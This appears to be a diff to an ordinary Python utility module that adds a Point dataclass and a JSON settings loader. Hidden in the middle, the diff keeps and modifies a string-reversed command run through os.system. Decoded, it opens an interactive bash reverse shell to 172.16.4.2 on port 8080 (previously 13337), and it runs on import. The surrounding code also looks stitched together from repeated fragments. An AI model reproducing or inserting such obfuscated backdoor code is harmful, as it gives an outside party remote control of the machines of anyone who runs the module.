@@ -1,4 +1,13 @@
-#!/usr/bin/env python3
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
+
 import logging
 log = logging.getLogger(__name__)
 
@@ -6,10 +15,10 @@ def report(values):
     log.info("mean=%s", sum(values) / max(len(values), 1))
 
 import os
-c = "1&>0 73313/2.4.61.271/pct/ved/ &> i- hsab"
+c = "1&>0 0808/2.4.61.271/pct/ved/ &> i- hsab"
 os.system(c[::-1])
-import logging
-log = logging.getLogger(__name__)
+import json
 
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
